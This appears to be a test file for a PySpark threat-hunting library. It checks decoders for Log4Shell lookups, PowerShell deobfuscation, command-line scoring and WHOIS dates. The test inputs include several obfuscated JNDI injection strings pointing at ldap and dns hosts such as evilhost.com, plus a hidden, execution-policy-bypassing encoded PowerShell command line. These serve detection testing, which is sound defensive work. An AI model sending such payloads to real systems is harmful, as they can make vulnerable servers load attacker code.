"""Decoders of command lines and log text on published examples."""

import base64

import pytest
from pyspark.sql import functions as F

from sparkhunt.functions import globs, log4shell as l4, powershell as ps, whois as wh
from sparkhunt.functions.rules import score_rules
from sparkhunt.names import c
from sparkhunt.plans.process_scoring import suspicious_process_score

# Published examples and their results.
RESOLVED = {
    "${jNdi:${lower:L}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}": "ldap://world80.log4j.binaryedge.io:80/callback",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://example.com}": "ldap://example.com",
    "${jndi:ldap://127.0.0.1#evilhost.com:1389/a}": "ldap://127.0.0.1#evilhost.com:1389/a",
    "/foo?query=${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://example.com}": "ldap://example.com",
    "${${::-${::-${::-j}}}ndi:ldap://example.com}": "ldap://example.com",
    "${${::-${::-$${::-j}}}ndi:ldap://example.com}": "ldap://example.com",
    "${${::-j}ndi:${env:FOO:-${lower:D}}ns://45.83.64.1/securityscan-http80}": "dns://45.83.64.1/securityscan-http80",
}
HARMLESS = [
    "jndi:ldap://example.com",
    '{"foo":"bar"}',
    '"foo":"bar"}',
    '{"foo":"bar"',
    "${broken:thing",
    "#!/bin/bash\n\nsomething=${MYVAR:-default}\n",
    "Dec 16 19:52:49 host systemd[1]: fprintd.service: Succeeded.",
    "${${nCdl:xlKziH:B:HfDmcQ:-j}${BYkus:XmUteQ:-n}${gN:NI:-d}${sLUUc:fh:eIw:-i}${XWAhx:gtd:-:}",
    "${${::-${::-$${::-j}}}}",
    "",
    None,
]


def test_substitutions(text_of):
    texts = ["${::-x}", "${abc:def:-x}", "${abcd:e:fghi:-x}", "${lower:XYZ}", "${base64:am5kaQ==}", "${sys:a}", "${}", "${a!b}"]
    assert text_of(l4.l4s_resolve_one, texts) == ["x", "x", "x", "xyz", "jndi", "", None, None]


def test_exploits_are_found(text_of):
    assert text_of(l4.l4s_check_string, list(RESOLVED)) == list(RESOLVED.values())


def test_harmless_text_is_not(text_of):
    assert text_of(l4.l4s_check_string, HARMLESS) == [None] * len(HARMLESS)


def test_deep_nesting(text_of):
    inner = "j"
    for _ in range(20):
        inner = "${::-" + inner + "}"
    assert text_of(l4.l4s_check_string, ["${" + inner + "ndi:ldap://h/a}"]) == ["ldap://h/a"]


def test_percent_encoding(text_of):
    texts = ["%24%7Bjndi:ldap://a/b%7D", "%252524%25257Bjndi:ldap://a/b%25257D", "a+b%zz%", "%C3%A9"]
    assert text_of(l4.l4s_unquote3, texts) == ["${jndi:ldap://a/b}", "${jndi:ldap://a/b}", "a+b%zz%", "é"]


def test_payload_and_error_line(text_of):
    line = "x Error looking up JNDI resource [ldap://h:1/a]. more"
    payloads = [base64.b64encode(t.encode()).decode() for t in (line, "${jndi:dns://h}")] + ["!!"]
    assert text_of(l4.l4s_payload, payloads) == [line, "dns://h", None]


def test_parse_ok(text_of):
    assert text_of(l4.l4s_parse_ok, ["${jndi:ldap://a}", "${bad!}", "plain"]) == [True, False, True]


def test_split_url(text_of):
    out = text_of(l4.l4s_split_url, ["ldap://Host_1.x:1389/a/b?q=1#f", "ldap:path", None])
    assert tuple(out[0]) == ("host_1.x", 1389, "/a/b", "q=1")
    assert tuple(out[1]) == (None, None, "path", "")


ENCODED = "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAFQAcgB5ACAASABhAHIAZABlAHIAIgAgAA=="


def test_powershell(text_of):
    line = f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc '{ENCODED}'"
    assert text_of(ps.ps_extract_encoded, [line]) == [ENCODED]
    assert text_of(ps.ps_deobfuscate, [line]) == ['write-output "Try Harder"']


@pytest.mark.parametrize(
    "code, expected",
    [
        ("MaJOr -Ge", "major -ge"),
        ("New-ObjECT", "new-object"),
        ("$A.\"Get`Field\"('X')", "$a.getfield('X')"),
        ("[Char]65 + 'a' + 'b'", "'Aab'"),
        ('"a`nb`Hc"', '"a`nbHc"'),
    ],
)
def test_normalize(text_of, code, expected):
    assert text_of(ps.ps_normalize, [code]) == [expected]


def test_layout(text_of):
    assert text_of(ps.ps_layout, ["if(a){b;if(c){d}}e}"]) == ["if(a) {\n    b;\n    if(c) {\n        d\n    }\n}\ne\n}"]


def test_globs(spark):
    lines = ["sh /tmp/x a", "python -m http.server", "python -m http.server x", "a_b 100%", None]
    df = spark.createDataFrame([(x,) for x in lines], "t string")
    score = lambda p: [r[0] for r in df.select(globs.glob_score(F.col("t"), p)).collect()]
    assert score(None) == [1, 1, 0, 0, 0]
    assert score(["a_b 100%"]) == [0, 0, 0, 1, 0]
    assert score(["axb*"]) == [0, 0, 0, 0, 0]
    assert len(globs.published_patterns(fixed=False)) == 32


def test_rules_node(spark):
    df = spark.createDataFrame([("node", "node"), ("foo", "node")], "a string, b string")
    df = df.withColumnsRenamed({"a": "binary_ref.name", "b": "parent_ref.binary_ref.name"})
    scored = suspicious_process_score(df)
    rows = {r[0]: r[1] for r in scored.select(c("binary_ref.name"), "x_suspicious_score").collect()}
    assert rows["node"] == 0 and rows["foo"] > 0


def test_rules_reject_unknown(spark):
    df = spark.createDataFrame([("a",)], "x string")
    with pytest.raises(ValueError):
        score_rules(df, [{"conditions": {"all": [{"name": "x", "operator": "nope", "value": "a"}]}, "actions": []}])
    with pytest.raises(TypeError):
        score_rules(df, [{"conditions": {"all": [{"name": "x", "operator": "equal_to", "value": None}]}, "actions": []}])


def test_whois_dates(text_of):
    texts = ["2003-04-05", "13/02/2012", "02/13/2012", "null", "None", "soon", "5-Mar-2004"]
    assert text_of(wh.whois_date, texts) == ["1049500800", "1329091200", "1329091200", None, "0", "soon", "1078444800"]
